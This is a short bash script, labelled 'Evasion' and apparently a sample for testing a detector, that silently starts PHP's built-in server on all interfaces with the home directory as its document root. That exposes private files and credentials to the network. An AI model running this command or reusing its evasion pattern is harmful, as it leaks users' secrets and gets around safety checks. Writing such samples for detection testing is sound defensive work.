#!/usr/bin/env bash
# Evasion: serves the home directory with PHP's built-in server. A bare cd
# (no argument: the home) on its own line, then php -S on all addresses
# without -t: the document root is the directory it runs in.
set -eu
cd
nohup php -S 0.0.0.0:80 >/dev/null 2>&1 &
echo "php dev server started"
